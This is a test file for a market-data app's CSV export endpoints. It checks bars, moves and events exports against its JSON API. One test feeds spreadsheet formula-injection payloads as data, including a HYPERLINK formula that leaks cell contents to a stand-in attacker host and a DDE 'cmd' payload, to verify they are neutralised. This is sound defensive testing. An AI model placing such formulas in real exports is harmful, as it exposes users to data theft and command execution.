// The CSV exports over real HTTP against the bundled DeepSeek data, parsed with csv-parse and held against
// the JSON API and the database.
import fc from 'fast-check';
import { attachNews, upsertEvent, upsertNews } from '../../src/news/eventStore';
import { upsertDailyBars } from '../../src/bars/dailyBarStore';
import type { DetectedMove } from '../../src/moves/moveContract';
import { saveInstrument } from '../../src/instruments/instrumentStore';
import { useTestApp } from '../support/testApp';
import { expectedCell, expectedTextCell, getCsv } from './helpers';

const t = useTestApp();

const json = async (path: string) => (await fetch(t.app.url + path)).json();
const BAR_FIELDS = ['open', 'high', 'low', 'close', 'adjClose', 'volume', 'provisional'] as const;

describe('GET /api/export/bars.csv', () => {
  it('holds exactly the bars of the JSON API, symbol by symbol, with the currency on every row', async () => {
    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,6857.T,^N225&from=2024-12-01&to=2025-02-28');
    expect(csv.status).toBe(200);
    expect(csv.header).toEqual(['symbol', 'currency', 'date', ...BAR_FIELDS]);
    for (const symbol of ['NVDA', '6857.T', '^N225']) {
      const api = await json(`/api/instruments/${encodeURIComponent(symbol)}/bars?from=2024-12-01&to=2025-02-28`);
      const rows = csv.rows.filter((r) => r.symbol === symbol);
      expect(api.bars.length).toBeGreaterThan(50);
      expect(rows.map((r) => r.date)).toEqual(api.bars.map((b: { date: string }) => b.date));
      rows.forEach((row, i) => {
        expect(row.currency).toBe(api.currency);
        for (const f of BAR_FIELDS) expect(row[f]).toBe(expectedCell(api.bars[i][f]));
      });
    }
    // each symbol's rows together (in the database's order of symbols), each by date
    const runs = csv.rows.map((r) => r.symbol).filter((s, i, all) => i === 0 || all[i - 1] !== s);
    expect([...runs].sort()).toEqual(['6857.T', 'NVDA', '^N225']);
  });

  it('writes stored prices as they are: 118.42 stays 118.42, an empty cell for a null', async () => {
    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA&from=2025-01-27&to=2025-01-27');
    const text = csv.bytes.toString('utf8');
    expect(text).toContain('NVDA,USD,2025-01-27,124.8,128.4,116.7,118.42,');
    await upsertDailyBars(
      t.db.pool,
      [{ symbol: 'SMH', date: '2031-01-02', open: null, high: null, low: null, close: 250.5, adjClose: null, volume: null }],
      { source: 'test' },
    );
    const withNulls = await getCsv(t.app.url, '/api/export/bars.csv?symbols=SMH&from=2031-01-02&to=2031-01-02');
    expect(withNulls.bytes.toString('utf8')).toBe(
      'symbol,currency,date,open,high,low,close,adjClose,volume,provisional\r\nSMH,USD,2031-01-02,,,,250.5,,,false\r\n',
    );
  });

  it('prints every double as JavaScript does (shortest round-trip), whatever its size', async () => {
    await saveInstrument(t.db.pool, {
      symbol: 'PREC',
      name: 'precision probe',
      exchange: 'US',
      currency: 'USD',
      timeZone: 'America/New_York',
      kind: 'equity',
      benchmarkSymbol: null,
    });
    const edge = [
      0.1 + 0.2,
      118.42,
      -0.1697,
      1e-7,
      0.00001234,
      5e-324,
      1.7976931348623157e308,
      123456789012345680000,
      1e21,
      -0,
      2 ** 53 + 2,
    ];
    const random = fc.sample(fc.double({ noNaN: true, noDefaultInfinity: true }), { numRuns: 3000, seed: 20250127 });
    const values = [...edge, ...random];
    const day0 = Date.UTC(2040, 0, 1);
    const dateOf = (i: number) => new Date(day0 + i * 86_400_000).toISOString().slice(0, 10);
    await upsertDailyBars(
      t.db.pool,
      values.map((v, i) => ({ symbol: 'PREC', date: dateOf(i), open: v, high: null, low: null, close: v, adjClose: null, volume: null })),
      { source: 'test' },
    );
    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=PREC');
    expect(csv.rows).toHaveLength(values.length);
    csv.rows.forEach((row, i) => {
      expect(row.date).toBe(dateOf(i));
      expect(row.close).toBe(String(values[i]));
      expect(Number(row.close)).toBe(values[i] === 0 ? 0 : values[i]); // and it parses back to the same double
    });
  });

  it('names the file after what it holds and declares CSV in UTF-8', async () => {
    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA&from=2025-01-01&to=2025-01-31');
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="aftershock-bars-NVDA-2025-01-01-2025-01-31.csv"');
    const two = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,^GSPC&from=2025-01-01');
    expect(two.headers.get('content-disposition')).toBe('attachment; filename="aftershock-bars-NVDA_GSPC-from-2025-01-01.csv"');
  });

  it('answers HEAD with the headers of the download and no body', async () => {
    const res = await fetch(`${t.app.url}/api/export/bars.csv?symbols=NVDA&from=2025-01-01&to=2025-01-31`, { method: 'HEAD' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="aftershock-bars-NVDA-2025-01-01-2025-01-31.csv"');
    expect((await res.arrayBuffer()).byteLength).toBe(0);
    expect((await fetch(`${t.app.url}/api/export/bars.csv?symbols=NOPE`, { method: 'HEAD' })).status).toBe(404);
  });

  it('starts with a UTF-8 BOM only when asked (?bom=1), otherwise the bytes are the same', async () => {
    const plain = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&from=2025-01-20&to=2025-01-31');
    const withBom = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&from=2025-01-20&to=2025-01-31&bom=1');
    expect([...withBom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(plain.bytes.subarray(0, 6).toString()).toBe('symbol');
    expect(withBom.bytes.subarray(3).equals(plain.bytes)).toBe(true);
    expect(withBom.rows).toEqual(plain.rows);
  });

  it('exports intraday bars with ts in ISO UTC, picked by the trading date on their own exchange', async () => {
    const insert = `INSERT INTO intraday_bars (symbol, interval, ts, open, high, low, close, volume, source) VALUES ($1, $2, $3, $4, $4, $4, $4, $5, 'test')`;
    const bars: [string, string, string, number, number | null][] = [
      ['NVDA', '5m', '2025-01-27T14:30:00Z', 124.8, 1000],
      ['NVDA', '5m', '2025-01-27T20:55:00Z', 118.5, null],
      ['NVDA', '5m', '2025-01-28T14:30:00Z', 121.81, 900], // the next New York session
      ['NVDA', '1h', '2025-01-27T15:00:00Z', 120, 5000], // another interval
      ['6857.T', '5m', '2025-01-26T23:55:00Z', 9600, 10], // 08:55 in Tokyo on the 27th
      ['6857.T', '5m', '2025-01-27T06:25:00Z', 9185, 20],
    ];
    for (const [symbol, interval, ts, price, volume] of bars) await t.db.pool.query(insert, [symbol, interval, ts, price, volume]);
    const csv = await getCsv(t.app.url, '/api/export/bars.csv?symbols=NVDA,6857.T&interval=5m&from=2025-01-27&to=2025-01-27');
    expect(csv.status).toBe(200);
    expect(csv.header).toEqual(['symbol', 'currency', 'interval', 'ts', 'open', 'high', 'low', 'close', 'volume']);
    expect(csv.rows.map((r) => [r.symbol, r.currency, r.interval, r.ts, r.close, r.volume]).sort()).toEqual([
      ['6857.T', 'JPY', '5m', '2025-01-26T23:55:00.000Z', '9600', '10'],
      ['6857.T', 'JPY', '5m', '2025-01-27T06:25:00.000Z', '9185', '20'],
      ['NVDA', 'USD', '5m', '2025-01-27T14:30:00.000Z', '124.8', '1000'],
      ['NVDA', 'USD', '5m', '2025-01-27T20:55:00.000Z', '118.5', ''],
    ]);
    expect(csv.headers.get('content-disposition')).toContain('aftershock-bars-5m-NVDA_6857.T-2025-01-27-2025-01-27.csv');
  });

  it('answers bad parameters with a JSON 400 naming them, before any CSV', async () => {
    const cases: [string, string][] = [
      ['symbols=NVDA&from=2025-13-01', 'from'],
      ['symbols=NVDA&from=2025-02-01&to=2025-01-01', 'from'],
      ['symbols=NVDA&interval=2m', 'interval'],
      ['from=2025-01-01', 'symbols'],
      ['symbols=', 'symbols'],
      ['symbols=NV DA', 'symbols'],
      ['symbols=NVDA&bom=yes', 'bom'],
      ['symbols=NVDA&to=2025-01-01&to=2025-01-02', 'to'],
      ['symbols=NVDA&symbol=NVDA', '"symbol"'],
    ];
    for (const [query, param] of cases) {
      const res = await fetch(`${t.app.url}/api/export/bars.csv?${query}`);
      expect([query, res.status]).toEqual([query, 400]);
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
      expect(res.headers.get('content-disposition')).toBeNull();
      const body = await res.json();
      expect(body.error.code).toBe('invalid_parameter');
      expect(body.error.message).toContain(param);
    }
  });

  it('answers unknown symbols with a JSON 404 naming them', async () => {
    const res = await fetch(`${t.app.url}/api/export/bars.csv?symbols=NVDA,NOPE,ZZZZ`);
    expect(res.status).toBe(404);
    const body = await res.json();
    expect(body.error).toMatchObject({ code: 'unknown_symbol', message: expect.stringContaining('NOPE, ZZZZ') });
  });
});

describe('GET /api/export/moves.csv', () => {
  const MOVE_HEADER = [
    'moveId',
    'symbol',
    'date',
    'move',
    'return',
    'abnormalReturn',
    'z',
    'rule',
    'detectedAt',
    'eventSlug',
    'eventOffset',
    'eventOrigin',
  ];

  /** GET /api/moves flattened the way the export lays moves out: one row per move and linked event. */
  const expectedRows = (moves: DetectedMove[]) =>
    moves.flatMap((m) => {
      const cells = [m.id, m.symbol, m.date, m.move, m.return, m.abnormalReturn, m.z, m.rule, m.detectedAt].map(expectedCell);
      return m.events.length ? m.events.map((e) => [...cells, e.slug, String(e.offset), e.origin]) : [[...cells, '', '', '']];
    });
  const cellsOf = (csv: { header: string[]; rows: Record<string, string>[] }) => csv.rows.map((r) => csv.header.map((h) => r[h]));

  beforeAll(async () => {
    // a person removed one automatic link: neither the JSON API nor the export may show it
    await t.db.pool.query(`UPDATE move_event_links SET linked = false, origin = 'manual'
      WHERE move_id = (SELECT id FROM price_moves WHERE symbol = 'NVDA' AND date = '2025-01-27')
        AND event_id = (SELECT id FROM events WHERE slug = 'trump-wake-up-call')`);
  });

  it('holds the moves of GET /api/moves, one row per linked event, offsets as numbers', async () => {
    const csv = await getCsv(t.app.url, '/api/export/moves.csv');
    expect(csv.header).toEqual(MOVE_HEADER);
    const { moves } = await json('/api/moves?limit=5000');
    expect(moves.length).toBeGreaterThan(5);
    expect(cellsOf(csv)).toEqual(expectedRows(moves));
    const nvda = csv.rows.filter((r) => r.symbol === 'NVDA' && r.date === '2025-01-27');
    expect(nvda.map((r) => r.eventSlug)).toContain('deepseek-app-store-no1');
    expect(nvda.map((r) => r.eventSlug)).not.toContain('trump-wake-up-call');
    expect(nvda[0].move).toBe(String(118.42 / 142.62 - 1));
  });

  it('filters by symbol, dates and a minimum |move| in percent, as GET /api/moves does', async () => {
    for (const q of [
      'min=5',
      'symbol=NVDA,6857.T&from=2025-01-01&to=2025-01-31',
      'symbol=NVDA&min=16.96',
      'min=16.97',
      'from=2025-03-01',
    ]) {
      const csv = await getCsv(t.app.url, `/api/export/moves.csv?${q}`);
      const { moves } = await json(`/api/moves?limit=5000&${q}`);
      expect([q, cellsOf(csv)]).toEqual([q, expectedRows(moves)]);
    }
    const nvdaJan = await getCsv(t.app.url, '/api/export/moves.csv?symbol=NVDA&from=2025-01-01&to=2025-01-31&min=10');
    expect([...new Set(nvdaJan.rows.map((r) => r.date))]).toEqual(['2025-01-27']);
    expect(nvdaJan.headers.get('content-disposition')).toBe('attachment; filename="aftershock-moves-NVDA-2025-01-01-2025-01-31.csv"');
  });

  it('keeps negative numbers numeric: no quote, no formula guard', async () => {
    const csv = await getCsv(t.app.url, '/api/export/moves.csv?symbol=NVDA&from=2025-01-27&to=2025-01-27');
    const move = String(118.42 / 142.62 - 1);
    expect(move.startsWith('-0.1696')).toBe(true);
    expect(csv.bytes.toString('utf8')).toMatch(
      new RegExp(`\\r\\n\\d+,NVDA,2025-01-27,${move.replace('.', '\\.')},-0\\.\\d+,-0\\.\\d+,-\\d`),
    );
    expect(Number(csv.rows[0].move)).toBeCloseTo(-0.1697, 4);
  });

  it('400s a bad minimum or date and 404s an unknown symbol', async () => {
    for (const [q, param] of [
      ['min=-5', 'min'],
      ['min=five', 'min'],
      ['min=101', 'min'],
      ['from=2025-01-32', 'from'],
      ['limit=5', 'limit'],
    ]) {
      const res = await fetch(`${t.app.url}/api/export/moves.csv?${q}`);
      expect([q, res.status]).toEqual([q, 400]);
      expect((await res.json()).error.message).toContain(param);
    }
    const res = await fetch(`${t.app.url}/api/export/moves.csv?symbol=NVDA,NOPE`);
    expect(res.status).toBe(404);
    expect((await res.json()).error.message).toContain('NOPE');
  });
});

describe('GET /api/export/events.csv', () => {
  it('has one row per event and news item, as GET /api/events and /api/events/:slug give them', async () => {
    const csv = await getCsv(t.app.url, '/api/export/events.csv');
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="aftershock-events.csv"');
    const { events } = await json('/api/events');
    const expected: string[][] = [];
    for (const listed of events) {
      const { event } = await json(`/api/events/${listed.slug}`);
      const eventCells = [
        event.slug,
        expectedTextCell(event.title),
        expectedCell(event.occurredAt),
        event.date,
        expectedCell(event.dateOnly),
        event.precision,
        expectedCell(event.timeZone),
        expectedCell(event.occurredUntil),
        event.kind,
        expectedTextCell(event.description),
      ];
      if (event.news.length === 0) expected.push([...eventCells, '', '', '', '', '', '', '', '']);
      for (const n of event.news) {
        expected.push([
          ...eventCells,
          n.role,
          expectedTextCell(n.url),
          expectedTextCell(n.title),
          expectedTextCell(n.publisher),
          expectedCell(n.publishedAt),
          n.date,
          expectedCell(n.dateOnly),
          expectedTextCell(n.kind),
        ]);
      }
    }
    expect(expected.length).toBeGreaterThan(events.length);
    expect(csv.rows.map((r) => csv.header.map((h) => r[h]))).toEqual(expected);
    // the Trump remarks are known to the part of the day (issue 21)
    expect(csv.rows.find((r) => r.eventSlug === 'trump-wake-up-call')).toMatchObject({
      eventOccurredAt: '2025-01-27T21:00:00.000Z',
      eventPrecision: 'after_close',
      eventTimeZone: 'America/New_York',
      eventOccurredUntil: '',
    });
    expect(csv.rows.filter((r) => r.eventSlug === 'deepseek-r1-release').map((r) => `${r.newsRole}:${r.newsKind}`)).toEqual([
      'source:model_release',
      'coverage:market_close',
      'coverage:selloff',
      'coverage:market_close',
      'coverage:rebound',
    ]);
  });

  it('neutralises text a spreadsheet would run as a formula, and only that', async () => {
    const titles = [
      '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      'Nvidia -17%, "worst day"\nsince 2020',
      'a=b is fine',
    ];
    const eventId = await upsertEvent(t.db.pool, {
      slug: 'formula-injection',
      title: titles[0],
      occurredAt: new Date('2031-05-01T10:00:00Z'),
      dateOnly: false,
      kind: '@kind',
      description: '-fell 17%',
    });
    for (const [i, title] of titles.entries()) {
      const newsId = await upsertNews(t.db.pool, {
        url: `https://example.test/news/${i}`,
        title,
        publisher: i === 0 ? '=cmd()' : 'Example',
        publishedAt: new Date(Date.UTC(2031, 4, 1, 11, i)),
        dateOnly: false,
      });
      await attachNews(t.db.pool, eventId, newsId, 'coverage');
    }
    const csv = await getCsv(t.app.url, '/api/export/events.csv');
    const rows = csv.rows.filter((r) => r.eventSlug === 'formula-injection');
    expect(rows.map((r) => r.newsTitle)).toEqual([
      `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`,
      `'+1+cmd|' /C calc'!A0`,
      `'-2+3`,
      `'@SUM(A1:A9)`,
      `'\t=1+1`,
      `'\r=1+1`,
      'Nvidia -17%, "worst day"\nsince 2020',
      'a=b is fine',
    ]);
    expect(rows[0]).toMatchObject({
      eventTitle: `'${titles[0]}`,
      eventKind: `'@kind`,
      eventDescription: `'-fell 17%`,
      newsPublisher: `'=cmd()`,
    });
    // the JSON API keeps the text as stored; the guard belongs to the spreadsheet format
    const { event } = await json('/api/events/formula-injection');
    expect(event.title).toBe(titles[0]);
    // no cell of the whole file starts a formula
    for (const r of csv.rows) for (const v of Object.values(r)) expect(/^[=+@\t\r]/.test(v) || /^-(?![\d.])/.test(v)).toBe(false);
  });

  it('400s anything but bom', async () => {
    const res = await fetch(`${t.app.url}/api/export/events.csv?from=2025-01-01`);
    expect(res.status).toBe(400);
    expect((await res.json()).error.message).toContain('from');
  });
});
